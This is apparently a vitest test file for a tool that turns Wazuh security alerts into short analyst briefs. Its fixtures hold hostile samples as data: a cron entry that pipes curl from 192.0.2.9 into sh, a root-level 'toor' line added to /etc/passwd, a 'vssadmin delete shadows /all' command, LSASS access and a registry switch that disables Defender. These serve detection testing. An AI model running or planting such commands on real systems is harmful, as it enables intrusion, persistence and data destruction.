import { describe, expect, it } from 'vitest'
import { type AlertParts, wazuhAlert, windowsEvent } from '../../test/support/wazuh-alert.ts'
import { casesOf } from '../commands/triage/triage-alerts.ts'
import { normalizeLine } from '../normalize/normalize-line.ts'
import { investigateCase } from './investigate.ts'

// What an analyst misses at three in the morning: who did it to what, and what to look at next.

const at = Date.UTC(2026, 4, 4, 8, 0, 0)
const briefOf = (...parts: readonly AlertParts[]) => {
  const [first, ...others] = casesOf(parts.map(wazuhAlert)).map(investigateCase)
  if (first === undefined || others.length > 0) throw new Error('one case was expected')
  return first.computed
}
const claimsOf = (...parts: readonly AlertParts[]) => briefOf(...parts).claims.map(({ text }) => text)
const sysmon = (
  event: string,
  groups: readonly string[],
  fields: { readonly [name: string]: string },
): AlertParts => ({
  rule: ['92000', 12, 'Sysmon event', ['sysmon', 'windows', ...groups]],
  data: windowsEvent(event, 'Microsoft-Windows-Sysmon/Operational', fields),
})

describe('brief 0 says what acted on what', () => {
  it('a program that opened LSASS', () => {
    const claims = claimsOf(
      sysmon('10', [], {
        sourceImage: 'C:\\Windows\\Temp\\pd.exe',
        targetImage: 'C:\\Windows\\System32\\lsass.exe',
        grantedAccess: '0x1fffff',
      }),
    )
    expect(claims[1]).toBe(
      'A program opened the process that keeps credentials: «C:\\Windows\\Temp\\pd.exe» on «C:\\Windows\\System32\\lsass.exe».',
    )
  })
  it('a registry value and what it was set to', () => {
    const claims = claimsOf(
      sysmon('13', [], {
        image: 'C:\\Windows\\System32\\reg.exe',
        targetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
        details: 'DWORD (0x00000001)',
      }),
    )
    expect(claims[1]).toBe(
      'A defence was switched off in the registry: «HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware» = «DWORD (0x00000001)».',
    )
  })
  it('a shell and the program that started it', () => {
    const claims = claimsOf(
      sysmon('1', ['sysmon_eid1_detections'], {
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'cmd.exe /c dir',
        parentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      }),
    )
    expect(claims[1]).toBe(
      'A shell was started by a server program, as after an exploit: «cmd.exe /c dir» under «C:\\Windows\\System32\\inetsrv\\w3wp.exe».',
    )
  })
  it('a rule that hides mail, with where it sends it', () => {
    const claims = claimsOf({
      rule: ['91500', 5, 'Office 365: Exchange events.', ['office365']],
      data: {
        office365: {
          Operation: 'New-InboxRule',
          UserId: 'ann@corp.example',
          Parameters: [{ Name: 'ForwardTo', Value: 'away@mail.example' }],
        },
      },
    })
    expect(claims.join('\n')).toContain('«ForwardTo» = «away@mail.example»')
  })
  it('who was put into a group of power, and whom to ask', () => {
    const brief = briefOf({
      rule: ['60141', 5, 'Security enabled global group member added', ['windows', 'win_group_changed']],
      data: windowsEvent('4728', 'Security', {
        memberName: 'CN=Bo Ek,OU=Staff,DC=corp,DC=example',
        targetUserName: 'Domain Admins',
        subjectUserName: 'ann',
      }),
    })
    expect(brief.headline).toBe(
      'The account «Bo Ek» was put into the group «domain admins»: web-01, account ann, 1 alert',
    )
    expect(brief.nextSteps[0]).toContain(
      'Ask ann for the ticket; without one, take the account «Bo Ek» out again',
    )
  })
  it('the line that a change added', () => {
    const claims = claimsOf({
      rule: ['550', 7, 'Integrity checksum changed.', ['ossec', 'syscheck']],
      syscheck: { path: '/etc/passwd', event: 'modified', diff: '34a35\n> toor:x:0:0::/root:/bin/bash' },
    })
    expect(claims.join('\n')).toContain('«/etc/passwd» with «> toor:x:0:0::/root:/bin/bash»')
  })
  it('a line that would run something did not run yet', () => {
    const { headline } = briefOf({
      rule: ['554', 5, 'File added to the system.', ['ossec', 'syscheck']],
      syscheck: {
        path: '/etc/cron.d/x',
        event: 'added',
        diff: '* * * * * root curl -s http://192.0.2.9/m|sh',
      },
    })
    expect(headline).toContain('A file was changed so that it fetches and runs code')
    expect(headline).not.toContain('downloaded')
  })
  it('a value that threat intelligence knows', () => {
    const brief = briefOf({
      rule: ['100622', 12, 'MISP - IoC found', ['misp', 'misp_alert']],
      data: { misp: { value: 'away.example', category: 'Network activity' } },
    })
    expect(brief.headline).toBe('A value that threat intelligence knows was seen: web-01, 1 alert')
    expect(brief.nextSteps).toHaveLength(2)
  })
  it('both ends of a connection', () => {
    const brief = briefOf({
      rule: ['86601', 3, 'Suricata: Alert - ET MALWARE beacon', ['ids', 'suricata']],
      data: {
        src_ip: '10.1.2.3',
        dest_ip: '203.0.113.9',
        dest_port: '443',
        alert: { signature: 'ET MALWARE beacon', severity: '1' },
      },
    })
    expect(brief.headline).toContain('from 10.1.2.3, to 203.0.113.9')
    expect(brief.claims[1]?.text).toContain('«ET MALWARE beacon» to «203.0.113.9» port «443»')
  })
})

describe('brief 0 says no more than it has to', () => {
  const logon = (fields: { readonly [name: string]: string }): AlertParts => ({
    rule: ['60106', 3, 'Windows logon success', ['windows', 'authentication_success']],
    data: windowsEvent('4624', 'Security', fields),
  })
  it('asks for nothing once, and nobody about the account of a computer', () => {
    const brief = briefOf(logon({ targetUserName: 'PC-7$', logonType: '3', ipAddress: '127.0.0.1' }))
    expect(brief.nextSteps).toEqual(['Nothing.'])
    expect(brief.unknowns.join()).not.toMatch(/127\.0\.0\.1|no account is named/)
    expect(brief.headline).toBe('A service or computer logged on with its own account: web-01, 1 alert')
  })
  it('tells an alert by itself in one sentence, and a series by its numbers', () => {
    expect(claimsOf(logon({ targetUserName: 'ann', logonType: '10', ipAddress: '10.1.2.3' }))[0]).toBe(
      'At 2026-02-02 02:40:00 UTC Wazuh raised an alert of level 3 on web-01: rule 60106, «Windows logon success».',
    )
    const series = [1, 2, 3].map(
      (firedTimes): AlertParts => ({
        id: `1.${firedTimes}`,
        atMs: at + firedTimes * 1000,
        firedTimes,
        rule: ['31101', 5, 'Web server 400 error code.', ['web', 'accesslog', 'attack']],
        data: { srcip: '203.0.113.9', id: '404', url: `/a${firedTimes}` },
      }),
    )
    expect(claimsOf(...series)).toContain(
      'They were alerts 1 to 3 of rule 31101 in that hour, over all hosts.',
    )
  })
  it('shows the same words of one alert once', () => {
    const claims = claimsOf(
      sysmon('1', ['sysmon_eid1_detections'], {
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'cmd /c whoami & vssadmin delete shadows /all',
      }),
    )
    expect(claims.filter(text => text.includes('«cmd /c whoami'))).toHaveLength(1)
  })
})

describe('brief 0 of a rule without a text', () => {
  const cases = (alert: object) => {
    const line = normalizeLine(Buffer.from(JSON.stringify(alert)), { where: 'test', receivedAtMs: 0 })
    return line.kind === 'quarantined' ? [] : casesOf([line.alert]).map(investigateCase)
  }
  const bare = { timestamp: '2026-05-04T08:00:00.000+0000', id: '1.1', full_log: 'disk sda is slow' }
  it('is told by its log line', () => {
    const [found] = cases({ ...bare, rule: { id: '100900', level: 3 } })
    expect(found?.computed.headline).toBe(
      'Rule 100900, which has no text, fired on «disk sda is slow»: 1 alert',
    )
    expect(found?.computed.claims[0]?.text).toBe(
      'At 2026-05-04 08:00:00 UTC Wazuh raised an alert of level 3: rule 100900.',
    )
    expect(found?.computed.nextSteps[0]).toBe('Read the log line: no known behaviour explains this alert.')
  })
  it('also without an id, a host or a level', () => {
    for (const rule of [{}, { level: 3 }, { id: '' }, { description: ' ' }]) {
      const [found] = cases({ ...bare, rule })
      const text = JSON.stringify(found?.computed ?? {})
      expect(text).not.toMatch(/rule ,|rule \.|on :|undefined|«Rule|on ,/i)
    }
  })
})
